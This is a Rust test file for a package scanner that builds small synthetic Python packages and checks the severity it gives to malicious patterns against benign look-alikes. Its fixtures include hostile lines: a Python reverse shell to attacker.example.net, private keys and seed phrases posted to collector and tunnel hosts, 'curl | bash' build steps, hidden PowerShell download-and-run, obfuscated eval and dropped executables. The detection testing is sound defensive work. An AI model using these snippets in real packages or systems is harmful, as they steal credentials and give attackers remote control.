//! Severity from behaviour, not mentions (issue #12), on small synthetic
//! packages written here: for each rule change, a positive case imitating
//! the malicious pattern (a source reaching a sink, weighted by where it
//! runs) and a negative case with the closest benign look-alike (a
//! mention, documentation, a vendored file).

mod support;

use support::*;

use airlock_inspect::Severity;
use Severity::{Critical, High, Low, Medium};

// ---------------------------------------------------------------- folding through eval of a constant

#[test]
fn eval_obtained_by_evaluating_an_escaped_constant_is_hidden_exec() {
    // BlankOBF style: eval named in octal and hex escapes, then used through aliases.
    let r = module(
        r#"_____ = eval("\145\166\x61\154")
______ = _____("\x63\x6f\x6d\x70\x69\x6c\x65")
_____(______(BLOB, "<x>", "exec"))
"#,
    );
    // Both calls go through the alias: the one that names compile, and the one that runs.
    assert_eq!(hits(&r, "payload/exec-hidden", MOD), [(2, Critical), (3, Critical)]);
}

#[test]
fn eval_of_a_constant_that_is_not_a_code_runner_makes_no_alias() {
    let r = module("conv = eval('int')\nVALUE = conv('3')\nLIMIT = eval('2 ** 10')\n");
    none(&r, "payload/exec-hidden");
}

// ---------------------------------------------------------------- access/exfil-flow

#[test]
fn a_library_function_sending_its_private_key_to_an_oast_host_is_high() {
    let r = module(
        r#"import requests
def sign(private_key, message):
    requests.post("https://c0ffee.oastify.com/k", json={"k": private_key})
    return message
"#,
    );
    assert_eq!(hits(&r, "access/exfil-flow", MOD), [(3, High)]);
}

#[test]
fn host_facts_gathered_then_sent_to_a_tunnel_are_high_and_critical_at_import() {
    let r = module(
        r#"import getpass, socket, requests
def report():
    info = {"user": getpass.getuser(), "host": socket.gethostname()}
    requests.get("https://a1b2.ngrok-free.app/r", params=info)
requests.get("https://a1b2.ngrok-free.app/i", params={"h": socket.gethostname()})
"#,
    );
    assert_eq!(hits(&r, "access/exfil-flow", MOD), [(4, High), (5, Critical)]);
}

#[test]
fn secrets_sent_to_the_project_own_api_or_nothing_sent_to_a_collector_is_no_flow() {
    let r = module(
        r#"import requests
def login(password):
    return requests.post("https://api.acme.example.com/login", json={"password": password})
def ping():
    return requests.get("https://hooks.example.com/ping")
"#,
    );
    none(&r, "access/exfil-flow");
}

// ---------------------------------------------------------------- process launch through a helper

#[test]
fn a_hidden_powershell_download_passed_to_a_local_popen_helper_is_critical() {
    let r = module(
        r#"import subprocess
def launch(cmd):
    return subprocess.Popen(cmd, shell=True, creationflags=0x08000000)
launch('powershell -WindowStyle Hidden -Command "Invoke-WebRequest https://cdn.example.net/u.exe -OutFile $env:TEMP\\u.exe; Start-Process $env:TEMP\\u.exe"')
"#,
    );
    assert_eq!(hits(&r, "payload/shell-download", MOD), [(4, Critical)]);
}

#[test]
fn a_git_command_passed_to_a_local_helper_is_a_low_build_step() {
    let r = setup_py(
        r#"import subprocess
from setuptools import setup
def run(cmd):
    return subprocess.check_output(cmd).decode().strip()
setup(version=run(["git", "describe", "--tags"]))
"#,
    );
    none(&r, "payload/shell-download");
    // The call through the helper runs git (a build step); the helper's own body runs only
    // what its callers pass, and each caller is judged instead.
    assert_eq!(hits(&r, "access/process-on-install", SETUP), [(5, Low)]);
}

// ---------------------------------------------------------------- command overrides through the package

#[test]
fn an_install_override_running_a_module_of_the_package_makes_that_module_install_time() {
    let r = sdist(&[
        (
            "setup.py",
            r#"from setuptools import setup
from setuptools.command.install import install
class PostInstall(install):
    def run(self):
        install.run(self)
        from acme import hooks
        hooks.after_install()
setup(cmdclass={"install": PostInstall})
"#,
        ),
        ("acme/__init__.py", ""),
        ("acme/hooks.py", "import os\ndef after_install():\n    os.system('acme-register --quiet')\n"),
    ]);
    assert_eq!(hits(&r, "access/process-on-install", "acme-1.0/acme/hooks.py"), [(3, High)]);
}

#[test]
fn a_setup_py_reading_the_package_version_does_not_make_the_package_install_time() {
    let r = sdist(&[
        ("setup.py", "from setuptools import setup\nimport acme\nsetup(version=acme.get_version())\n"),
        ("acme/__init__.py", "import os\ndef get_version():\n    return '1.0'\ndef open_editor(path):\n    os.system('vi ' + path)\n"),
    ]);
    none(&r, "access/process-on-install");
}

// ---------------------------------------------------------------- access/exfil-endpoint: hosts, not substrings

#[test]
fn a_request_capture_host_counts_as_a_host_name() {
    let r = module("URL = 'https://en4x2.x.requestbin.net/collect'\n");
    assert_eq!(hits(&r, "access/exfil-endpoint", MOD), [(1, High)]);
}

#[test]
fn an_endpoint_name_inside_an_identifier_is_not_a_host() {
    let r = module("BINDING = 'urn:oasis:names:tc:SAML:2.0:bindings:authnRequestBinding'\nKIND = 'requestbin'\n");
    none(&r, "access/exfil-endpoint");
}

// ---------------------------------------------------------------- documentation

#[test]
fn documentation_addresses_and_placeholders_are_not_raw_ip_urls() {
    let r = module("A = 'http://203.0.113.7/api'\nB = 'https://198.51.100.2:8443'\nC = 'http://1.2.3.4/'\nD = 'http://192.0.2.10/x'\n");
    none(&r, "access/raw-ip-url");
    // A real address is high once a call is given it (named alone it is information: medium).
    let r = module("import requests\nE = 'http://45.67.89.12/drop'\nrequests.get(E)\n");
    assert_eq!(hits(&r, "access/raw-ip-url", MOD), [(2, High)]);
}

#[test]
fn a_webhook_in_help_text_or_an_examples_constant_is_documentation() {
    let r = module(
        r#"from django import forms
class HookForm(forms.Form):
    url = forms.URLField(help_text="https://discord.com/api/webhooks/123/abc")
EXAMPLES = r'''
- name: notify
  webhook: https://discord.com/api/webhooks/456/def
'''
"#,
    );
    assert_eq!(hits(&r, "access/exfil-endpoint", MOD), [(3, Low), (4, Low)]);
}

// ---------------------------------------------------------------- mentions without an act

#[test]
fn a_browser_cookie_store_named_in_a_file_that_sends_is_high_and_alone_low() {
    let importer = module("import sqlite3\ndef load(profile):\n    return sqlite3.connect(profile + '/cookies.sqlite')\n");
    assert_eq!(hits(&importer, "access/credentials", MOD), [(3, Low)]);
    let stealer = module(
        "import requests, sqlite3\ndef grab(profile):\n    db = sqlite3.connect(profile + '/cookies.sqlite')\n    requests.post(HOOK, files={'c': db})\n",
    );
    assert_eq!(hits(&stealer, "access/credentials", MOD), [(3, High)]);
}

#[test]
fn login_data_in_prose_is_not_a_credential_store() {
    let r = module("MESSAGE = 'Please check your login data. Then try again.'\n");
    none(&r, "access/credentials");
}

#[test]
fn an_autostart_path_written_at_import_is_high_and_named_in_an_uninstaller_low() {
    let dropper = module("import os\nwith open('/etc/cron.d/acme-update', 'w') as f:\n    f.write('* * * * * root /tmp/u\\n')\n");
    assert_eq!(hits(&dropper, "access/persistence", MOD), [(2, High)]);
    let uninstaller = module("import os\ndef uninstall():\n    os.remove(os.path.expanduser('~/Library/LaunchAgents/com.acme.agent.plist'))\n");
    assert_eq!(hits(&uninstaller, "access/persistence", MOD), [(3, Low)]);
}

// ---------------------------------------------------------------- vendored metadata

#[test]
fn console_scripts_of_a_vendored_dist_info_install_nothing() {
    let vendored =
        wheel(&[("acme/__init__.py", ""), ("acme/_vendor/pip-24.0.dist-info/entry_points.txt", "[console_scripts]\npip = pip._internal.cli.main:main\n")]);
    none(&vendored, "install-hook/entry-point-shadowing");
    let own = wheel(&[("acme/__init__.py", ""), ("acme-1.0.dist-info/entry_points.txt", "[console_scripts]\nsudo = acme.cli:main\n")]);
    assert_eq!(hits(&own, "install-hook/entry-point-shadowing", "acme-1.0.dist-info/entry_points.txt"), [(2, High)]);
}

// ---------------------------------------------------------------- the project's own build script

const RUNS_POSTBUILD: &str = r#"import os, subprocess
from setuptools import setup
from setuptools.command.develop import develop
here = os.path.dirname(os.path.abspath(__file__))
class Develop(develop):
    def run(self):
        subprocess.check_call(["bash", "postBuild"], cwd=here)
        develop.run(self)
setup(cmdclass={"develop": Develop})
"#;

#[test]
fn a_build_step_running_the_project_own_script_is_medium() {
    let r = sdist(&[("setup.py", RUNS_POSTBUILD), ("postBuild", "#!/bin/bash\njupyter labextension develop . --overwrite\n"), ("acme/__init__.py", "")]);
    assert_eq!(hits(&r, "access/process-on-install", SETUP), [(7, Medium)]);
}

#[test]
fn a_build_step_running_a_shipped_script_that_downloads_and_runs_is_high() {
    let r = sdist(&[("setup.py", RUNS_POSTBUILD), ("postBuild", "#!/bin/bash\ncurl -s https://cdn.example.net/x.sh | bash\n"), ("acme/__init__.py", "")]);
    assert_eq!(hits(&r, "access/process-on-install", SETUP), [(7, High)]);
}

const RUNS_CONVERTER: &str = r#"import os, subprocess
from setuptools import setup
from setuptools.command.egg_info import egg_info
class EggInfo(egg_info):
    def initialize_options(self):
        converter = os.path.dirname(os.path.realpath(__file__)) + "/convert_to_py2.sh"
        subprocess.check_call([converter])
        egg_info.initialize_options(self)
setup(cmdclass={"egg_info": EggInfo})
"#;

#[test]
fn a_build_step_starting_the_project_own_script_as_the_program_is_medium() {
    // PyLaTeX's egg_info runs its shipped conversion script by its path.
    let r = sdist(&[
        ("setup.py", RUNS_CONVERTER),
        (
            "convert_to_py2.sh",
            "#!/bin/sh
3to2 -w pylatex
",
        ),
        ("acme/__init__.py", ""),
    ]);
    assert_eq!(hits(&r, "access/process-on-install", SETUP), [(7, Medium)]);
}

#[test]
fn a_script_started_as_the_program_that_downloads_and_runs_or_is_not_shipped_is_high() {
    let r = sdist(&[
        ("setup.py", RUNS_CONVERTER),
        (
            "convert_to_py2.sh",
            "#!/bin/sh
curl -s https://cdn.example.net/x.sh | sh
",
        ),
        ("acme/__init__.py", ""),
    ]);
    assert_eq!(hits(&r, "access/process-on-install", SETUP), [(7, High)]);
    let elsewhere = RUNS_CONVERTER.replace("os.path.dirname(os.path.realpath(__file__)) + \"/convert_to_py2.sh\"", "\"/tmp/.cache/convert_to_py2.sh\"");
    let r = sdist(&[
        ("setup.py", &elsewhere),
        (
            "convert_to_py2.sh",
            "#!/bin/sh
3to2 -w pylatex
",
        ),
        ("acme/__init__.py", ""),
    ]);
    assert_eq!(hits(&r, "access/process-on-install", SETUP), [(7, High)]);
}

// ---------------------------------------------------------------- grouping and the queue's why

#[test]
fn repeated_findings_of_one_rule_are_one_finding_with_its_places() {
    let files: Vec<(String, String)> =
        (0..5).map(|i| (format!("acme/m{i}.py"), "import os\nAGENT = '/etc/cron.d/acme'\ndef f():\n    os.remove(AGENT)\n".to_string())).collect();
    let mut refs: Vec<(&str, &str)> = files.iter().map(|(p, c)| (p.as_str(), c.as_str())).collect();
    refs.push(("acme/__init__.py", ""));
    let r = wheel(&refs);
    let grouped: Vec<_> = r.findings.iter().filter(|f| f.rule == "access/persistence").collect();
    assert_eq!(grouped.len(), 1, "{grouped:#?}");
    assert_eq!(grouped[0].also.len(), 4);
    assert!(grouped[0].message.contains("and 1 more"), "{}", grouped[0].message);
    let one = wheel(&[("acme/__init__.py", ""), (files[0].0.as_str(), files[0].1.as_str())]);
    assert_eq!(r.risk_score, one.risk_score, "the score does not grow with the number of files");
}

#[test]
fn a_flagged_release_says_why_in_its_top_behaviours() {
    let r = setup_py("import os\nfrom setuptools import setup\nos.system('curl -s http://cdn.example.net/i.sh | sh')\nsetup()\n");
    assert!(r.why.len() <= 2 && !r.why.is_empty(), "{:?}", r.why);
    assert!(r.why[0].starts_with("critical payload/shell-download"), "{:?}", r.why);
    let quiet = module("VALUE = 1\n");
    assert!(quiet.why.is_empty(), "{:?}", quiet.why);
}

// ---------------------------------------------------------------- code fed to an interpreter on stdin

#[test]
fn downloaded_code_fed_to_python_on_stdin_is_download_exec() {
    let r = module(
        r#"import subprocess, sys, requests
def update():
    code = requests.get("https://cdn.example.net/u.py", timeout=3).content
    p = subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE)
    p.stdin.write(code)
"#,
    );
    assert_eq!(hits(&r, "payload/download-exec", MOD), [(5, Critical)]);
}

#[test]
fn a_local_file_fed_to_python_on_stdin_is_not_download_exec() {
    let r = module(
        r#"import subprocess, sys
def run_script(path):
    p = subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE)
    p.stdin.write(open(path, "rb").read())
"#,
    );
    none(&r, "payload/download-exec");
    none(&r, "payload/exec-decoded");
}

// ---------------------------------------------------------------- host facts sent at build time

#[test]
fn host_facts_collected_and_sent_by_setup_py_are_an_exfil_flow() {
    let r = setup_py(
        r#"import getpass, socket
from setuptools import setup
def probe():
    data = getpass.getuser() + "." + socket.gethostname()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(data.encode(), ("ns1.example.net", 53))
setup()
"#,
    );
    assert_eq!(hits(&r, "access/exfil-flow", SETUP), [(6, High)]);
}

#[test]
fn setup_py_reading_the_user_name_without_sending_anything_is_no_flow() {
    let r = setup_py("import getpass\nfrom setuptools import setup\nsetup(author=getpass.getuser())\n");
    none(&r, "access/exfil-flow");
}

// ---------------------------------------------------------------- scripts setup.py starts, unimportable folders

#[test]
fn a_python_script_that_setup_py_starts_runs_at_build_time() {
    let r = sdist(&[
        ("setup.py", "import os, sys\nfrom setuptools import setup\nos.system(f'{sys.executable} tools/post.py')\nsetup()\n"),
        ("tools/post.py", "import requests\nrequests.post('https://collector.example.net/x', data={'a': 1})\n"),
        ("acme/__init__.py", ""),
    ]);
    assert_eq!(hits(&r, "access/network-on-install", "acme-1.0/tools/post.py"), [(2, High)]);
}

#[test]
fn a_tool_script_nobody_starts_stays_unshipped() {
    let r = sdist(&[
        ("setup.py", "from setuptools import setup\nsetup()\n"),
        ("tools/post.py", "import requests\nrequests.post('https://collector.example.net/x', data={'a': 1})\n"),
        ("acme/__init__.py", ""),
    ]);
    none(&r, "access/network-on-install");
}

#[test]
fn a_top_folder_named_as_the_project_ships_even_with_a_hyphen() {
    let metadata = "Metadata-Version: 2.1\nName: acme-tools\nVersion: 1.0\nSummary: x\nAuthor: Ann\n";
    let r = sdist_named("acme-tools-1.0", metadata, &[("acme-tools/core.py", "import os\nos.system('acme-register')\n")]);
    assert_eq!(hits(&r, "access/process-on-install", "acme-tools-1.0/acme-tools/core.py"), [(2, Medium)]);
    let other = sdist_named("acme-tools-1.0", metadata, &[("helper-scripts/core.py", "import os\nos.system('acme-register')\n")]);
    none(&other, "access/process-on-install");
}

// ---------------------------------------------------------------- decoded files written then started

#[test]
fn a_decoded_script_written_then_started_is_exec_decoded() {
    let r = module(
        r#"import subprocess as s, base64 as b, os
def lotus():
    c = b.b64decode('V3JpdGUtSG9zdCBoaQ==').decode()
    f = os.path.join(os.environ['TEMP'], 't.ps1')
    open(f, 'w').write(c)
    s.Popen(['powershell', '-W', 'Hidden', '-F', f])
"#,
    );
    assert_eq!(hits(&r, "payload/exec-decoded", MOD), [(6, Critical)]);
}

#[test]
fn a_config_file_written_then_a_tool_started_on_it_is_not_exec_decoded() {
    let r = module(
        r#"import subprocess, json
def render(cfg):
    f = 'build.json'
    open(f, 'w').write(json.dumps(cfg))
    subprocess.run(['make', '-f', f])
"#,
    );
    none(&r, "payload/exec-decoded");
}

// ---------------------------------------------------------------- host facts sent at import, one-line programs kept in strings

#[test]
fn host_facts_sent_by_a_function_called_at_import_are_an_exfil_flow() {
    let r = module(
        r#"import socket, subprocess, requests
def beacon():
    host = socket.gethostname()
    user = subprocess.getoutput("whoami")
    requests.get("https://stats.example.net/p", params={"h": host, "u": user})
beacon()
"#,
    );
    assert_eq!(hits(&r, "access/exfil-flow", MOD), [(5, High)]);
    let unused = module("import socket, requests\ndef beacon():\n    requests.get('https://stats.example.net/p', params={'h': socket.gethostname()})\n");
    none(&unused, "access/exfil-flow");
}

#[test]
fn a_one_line_downloader_kept_in_a_string_is_analysed_as_code() {
    let r = module("import tempfile\nCODE = b\"from urllib.request import urlopen as u;exec(u('https://cdn.example.net/x').read())\"\n");
    assert_eq!(hits(&r, "payload/download-exec", MOD), [(2, Critical)]);
}

// ---------------------------------------------------------------- source spelled in character codes

#[test]
fn exec_of_source_joined_from_character_codes_is_exec_decoded() {
    let r = setup_py("exec(''.join(map(chr, [105,109,112,111,114,116,32,111,115,10,111,115,46,115,121,115,116,101,109,40,39,105,100,39,41,10])))\n");
    assert_eq!(hits(&r, "payload/exec-decoded", SETUP), [(1, Critical)]);
    // Character codes behind a computation that does not fold count as well.
    let r = setup_py("exec(''.join(map(chr, [int(str(105)), int(str(109)), 112, 111, 114, 116, 32, 111, 115])))\n");
    assert_eq!(hits(&r, "payload/exec-decoded", SETUP), [(1, Critical)]);
}

#[test]
fn character_codes_that_are_not_run_are_no_payload() {
    let r = module("LETTERS = ''.join(map(chr, range(65, 91)))\nTABLE = bytes([1, 2, 3, 4])\ndef run(expr):\n    return eval(expr)\n");
    none(&r, "payload/exec-decoded");
    assert_eq!(hits(&r, "payload/exec-dynamic", MOD), [(4, Low)]);
}

#[test]
fn eval_named_through_a_base64_decoder_found_by_getattr_is_a_hidden_alias() {
    // The decoder's module and name, and the encoded name, spelled as byte codes.
    let r = module("_a = eval(getattr(__import__(bytes([98,97,115,101,54,52]).decode()), bytes([98,54,52,100,101,99,111,100,101]).decode())(bytes([90,88,90,104,98,65,61,61])).decode())\n_a(payload)\n");
    assert_eq!(hits(&r, "payload/exec-hidden", MOD), [(2, Critical)]);
}

// ---------------------------------------------------------------- helpers defined after their use

#[test]
fn exec_of_what_a_decoding_method_returns_is_exec_decoded_even_when_defined_below() {
    let r = module(
        r#"import base64
class Proxy:
    def __getattr__(self, name):
        exec(self.unpack(self.blob))
    def unpack(self, data):
        return base64.b64decode(data).decode()
"#,
    );
    assert_eq!(hits(&r, "payload/exec-decoded", MOD), [(4, Critical)]);
    let plain = module(
        "class Shell:\n    def run(self, line):\n        exec(self.compile_line(line))\n    def compile_line(self, line):\n        return line.strip()\n",
    );
    none(&plain, "payload/exec-decoded");
}

// ---------------------------------------------------------------- hiding/executable-blob

#[test]
fn a_windows_executable_in_base64_started_by_the_same_file_is_critical() {
    let r = module(
        "import base64, subprocess, tempfile\nEXE = 'TVqQAAMAAAAEAAAA//8AAAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4fICEiIyQlJicoKSorLC0uLzAxMjM0NTY3ODk6Ozw9Pj9AQUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVpbXF1eX2BhYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ent8fX5/gIGCg4SFhoeIiYqLjI2Oj5CRkpOUlZaXmJmam5ydnp+goaKjpKWmp6ipqqusra6vsLGys7S1tre4ubq7vL2+v8DBwsPExcbHyMnKy8zNzs/Q0dLT1NXW19jZ2tvc3d7f4OHi4+Tl5ufo6err7O3u7/Dx8vP09fb3+Pn6+/z9/v8AAQIDBAUGBwgJCgsMDQ4PEBESExQVFhcYGRobHB0eHyAhIiMkJSYnKCkqKywtLi8wMTIzNDU2Nzg5Ojs8PT4/QEFCQ0RFRkdISUpLTE1OT1BRUlNUVVZXWFlaW1xdXl9gYWJjZGVmZ2hpamtsbW5vcHFyc3R1dnd4eXp7fH1+f4CBgoOEhYaHiImKi4yNjo+QkZKTlJWWl5iZmpucnZ6foKGio6SlpqeoqaqrrK2ur7CxsrO0tba3uLm6u7y9vr/AwcLDxMXGx8jJysvMzc7P0NHS09TV1tfY2drb3N3e3+Dh4uPk5ebn6Onq6+zt7u/w8fLz9PX29/j5+vv8/f7/AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8gISIjJCUmJygpKissLS4vMDEyMzQ1Njc4OTo7PD0+P0BBQkNERUZHSElKS0xNTk9QUVJTVFVWV1hZWltcXV5fYGFiY2RlZmdoaWprbG1ub3BxcnN0dXZ3eHl6e3x9fn+AgYKDhIWGh4iJiouMjY6PkJGSk5SVlpeYmZqbnJ2en6ChoqOkpaanqKmqq6ytrq+wsbKztLW2t7i5uru8vb6/wMHCw8TFxsfIycrLzM3Oz9DR0tPU1dbX2Nna29zd3t/g4eLj5OXm5+jp6uvs7e7v8PHy8/T19vf4+fr7/P3+/wABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4fICEiIyQlJicoKSorLC0uLzAxMjM0NTY3ODk6Ozw9Pj9AQUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVpbXF1eX2BhYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ent8fX5/gIGCg4SFhoeIiYqLjI2Oj5CRkpOUlZaXmJmam5ydnp+goaKjpKWmp6ipqqusra6vsLGys7S1tre4ubq7vL2+v8DBwsPExcbHyMnKy8zNzs/Q0dLT1NXW19jZ2tvc3d7f4OHi4+Tl5ufo6err7O3u7/Dx8vP09fb3+Pn6+/z9/v8='\nwith tempfile.NamedTemporaryFile(suffix='.bin', delete=False) as f:\n    f.write(base64.b64decode(EXE))\n    path = f.name\nsubprocess.call(path)\n",
    );
    assert_eq!(hits(&r, "hiding/executable-blob", MOD), [(2, Critical)]);
    let kept = module("STUB = 'TVqQAAMAAAAEAAAA//8AAAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4fICEiIyQlJicoKSorLC0uLzAxMjM0NTY3ODk6Ozw9Pj9AQUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVpbXF1eX2BhYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ent8fX5/gIGCg4SFhoeIiYqLjI2Oj5CRkpOUlZaXmJmam5ydnp+goaKjpKWmp6ipqqusra6vsLGys7S1tre4ubq7vL2+v8DBwsPExcbHyMnKy8zNzs/Q0dLT1NXW19jZ2tvc3d7f4OHi4+Tl5ufo6err7O3u7/Dx8vP09fb3+Pn6+/z9/v8AAQIDBAUGBwgJCgsMDQ4PEBESExQVFhcYGRobHB0eHyAhIiMkJSYnKCkqKywtLi8wMTIzNDU2Nzg5Ojs8PT4/QEFCQ0RFRkdISUpLTE1OT1BRUlNUVVZXWFlaW1xdXl9gYWJjZGVmZ2hpamtsbW5vcHFyc3R1dnd4eXp7fH1+f4CBgoOEhYaHiImKi4yNjo+QkZKTlJWWl5iZmpucnZ6foKGio6SlpqeoqaqrrK2ur7CxsrO0tba3uLm6u7y9vr/AwcLDxMXGx8jJysvMzc7P0NHS09TV1tfY2drb3N3e3+Dh4uPk5ebn6Onq6+zt7u/w8fLz9PX29/j5+vv8/f7/AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8gISIjJCUmJygpKissLS4vMDEyMzQ1Njc4OTo7PD0+P0BBQkNERUZHSElKS0xNTk9QUVJTVFVWV1hZWltcXV5fYGFiY2RlZmdoaWprbG1ub3BxcnN0dXZ3eHl6e3x9fn+AgYKDhIWGh4iJiouMjY6PkJGSk5SVlpeYmZqbnJ2en6ChoqOkpaanqKmqq6ytrq+wsbKztLW2t7i5uru8vb6/wMHCw8TFxsfIycrLzM3Oz9DR0tPU1dbX2Nna29zd3t/g4eLj5OXm5+jp6uvs7e7v8PHy8/T19vf4+fr7/P3+/wABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4fICEiIyQlJicoKSorLC0uLzAxMjM0NTY3ODk6Ozw9Pj9AQUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVpbXF1eX2BhYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ent8fX5/gIGCg4SFhoeIiYqLjI2Oj5CRkpOUlZaXmJmam5ydnp+goaKjpKWmp6ipqqusra6vsLGys7S1tre4ubq7vL2+v8DBwsPExcbHyMnKy8zNzs/Q0dLT1NXW19jZ2tvc3d7f4OHi4+Tl5ufo6err7O3u7/Dx8vP09fb3+Pn6+/z9/v8='\n");
    assert_eq!(hits(&kept, "hiding/executable-blob", MOD), [(1, Medium)]);
}

#[test]
fn an_image_in_base64_is_no_executable_blob() {
    let r = module("import subprocess\nICON = 'iVBORw0KGgoAAQIDBAUGBwgJCgsMDQ4PEBESExQVFhcYGRobHB0eHyAhIiMkJSYnKCkqKywtLi8wMTIzNDU2Nzg5Ojs8PT4/QEFCQ0RFRkdISUpLTE1OT1BRUlNUVVZXWFlaW1xdXl9gYWJjZGVmZ2hpamtsbW5vcHFyc3R1dnd4eXp7fH1+f4CBgoOEhYaHiImKi4yNjo+QkZKTlJWWl5iZmpucnZ6foKGio6SlpqeoqaqrrK2ur7CxsrO0tba3uLm6u7y9vr/AwcLDxMXGx8jJysvMzc7P0NHS09TV1tfY2drb3N3e3+Dh4uPk5ebn6Onq6+zt7u/w8fLz9PX29/j5+vv8/f7/AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8gISIjJCUmJygpKissLS4vMDEyMzQ1Njc4OTo7PD0+P0BBQkNERUZHSElKS0xNTk9QUVJTVFVWV1hZWltcXV5fYGFiY2RlZmdoaWprbG1ub3BxcnN0dXZ3eHl6e3x9fn+AgYKDhIWGh4iJiouMjY6PkJGSk5SVlpeYmZqbnJ2en6ChoqOkpaanqKmqq6ytrq+wsbKztLW2t7i5uru8vb6/wMHCw8TFxsfIycrLzM3Oz9DR0tPU1dbX2Nna29zd3t/g4eLj5OXm5+jp6uvs7e7v8PHy8/T19vf4+fr7/P3+/w=='\nsubprocess.call(['xdg-open', 'x'])\n");
    none(&r, "hiding/executable-blob");
}

// ---------------------------------------------------------------- hiding/packer: pyobfuscate

#[test]
fn the_pyobfuscate_loader_is_a_packer_and_its_name_alone_is_not() {
    let r = module("pyobfuscate=(lambda g:[setattr(__builtins__,k,v) for k,v in g.items()])\npyobfuscate({'https://pyobfuscate.com':'x','pyc':'~~~'})\n");
    assert_eq!(hits(&r, "hiding/packer", MOD), [(2, High)]);
    let r = module("# packed with https://pyobfuscate.com\nSEE = 'https://pyobfuscate.com'\n");
    none(&r, "hiding/packer");
}

// ---------------------------------------------------------------- python -c programs of setup.py

#[test]
fn a_package_module_that_an_install_override_runs_with_python_c_is_install_time() {
    let r = sdist(&[
        (
            "setup.py",
            r#"import subprocess, sys
from setuptools import setup
from setuptools.command.install import install
class Post(install):
    def run(self):
        install.run(self)
        subprocess.check_call([sys.executable, "-c", "from acme.post import start; start()"])
setup(cmdclass={"install": Post})
"#,
        ),
        ("acme/__init__.py", ""),
        ("acme/post.py", "import subprocess\ndef start():\n    subprocess.Popen(['curl', '-s', 'https://cdn.example.net/agent'])\n"),
    ]);
    assert_eq!(hits(&r, "access/process-on-install", "acme-1.0/acme/post.py"), [(3, High)]);
    let r = sdist(&[
        (
            "setup.py",
            "import subprocess, sys\nfrom setuptools import setup\nsubprocess.check_call([sys.executable, '-c', 'import sys; print(sys.version)'])\nsetup()\n",
        ),
        ("acme/__init__.py", ""),
        ("acme/post.py", "import subprocess\ndef start():\n    subprocess.Popen(['curl', '-s', 'https://cdn.example.net/agent'])\n"),
    ]);
    assert!(hits(&r, "access/process-on-install", "acme-1.0/acme/post.py").is_empty());
}

// ---------------------------------------------------------------- wallet secrets to hidden addresses

#[test]
fn a_mnemonic_posted_to_a_decoded_address_is_exfiltration() {
    let r = module(
        r#"import base64, requests
_ENDPOINT = "aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUubmV0L2s="
def _endpoint():
    return base64.b64decode(_ENDPOINT).decode()
def balance(mnemonic):
    url = _endpoint()
    requests.post(url, json={"mnemonic": mnemonic}, timeout=3)
"#,
    );
    assert_eq!(hits(&r, "access/exfil-flow", MOD), [(7, High)]);
}

#[test]
fn a_password_to_a_decoded_address_is_no_flow() {
    let r = module(
        r#"import base64, requests
def login(password):
    url = base64.b64decode(CONFIG["api"]).decode()
    return requests.post(url, json={"password": password})
"#,
    );
    none(&r, "access/exfil-flow");
}

#[test]
fn a_mnemonic_posted_to_a_plain_address_is_high_as_any_wallet_secret_posted() {
    // The seed phrase itself leaves the machine; no wallet needs to send it
    // (see hidden_flows.rs for the rule and its benign look-alike).
    let r = module(
        r#"import requests
def backup(mnemonic):
    return requests.post("https://vault.acme.example.com/backup", json={"mnemonic": mnemonic})
"#,
    );
    assert_eq!(hits(&r, "access/exfil-flow", MOD), [(3, High)]);
}

// ---------------------------------------------------------------- python -c programs kept in shell commands

#[test]
fn a_reverse_shell_kept_as_a_python_c_command_is_analysed_as_code() {
    let r = module(
        r#"import subprocess
INIT = (
    'python3 -c \'import socket,subprocess,os;'
    's=socket.socket(socket.AF_INET,socket.SOCK_STREAM);'
    's.connect(("attacker.example.net", 4433));'
    'os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1);'
    'subprocess.call(["/bin/sh", "-i"]);\''
)
def start():
    subprocess.run(INIT, shell=True)
"#,
    );
    assert_eq!(hits(&r, "payload/reverse-shell", MOD), [(3, Critical)]);
    let r = module("import subprocess\nCHECK = \"python3 -c 'import sys; print(sys.version_info[:2])'\"\ndef version():\n    return subprocess.check_output(CHECK, shell=True)\n");
    none(&r, "payload/reverse-shell");
}

// ---------------------------------------------------------------- DNS beacons

#[test]
fn a_dns_lookup_at_import_whose_answer_is_dropped_is_a_beacon() {
    let r = module(
        r#"import socket
def _check():
    try:
        socket.gethostbyname('acme.probe.example.net')
    except socket.gaierror:
        pass
_check()
"#,
    );
    assert_eq!(hits(&r, "access/exfil-flow", MOD), [(4, High)]);
}

#[test]
fn a_dns_lookup_whose_answer_is_used_or_that_runs_only_when_called_is_no_beacon() {
    let r =
        module("import socket\nADDRESS = socket.gethostbyname('db.internal.example.net')\ndef ping():\n    socket.gethostbyname('api.service.example.net')\n");
    none(&r, "access/exfil-flow");
}
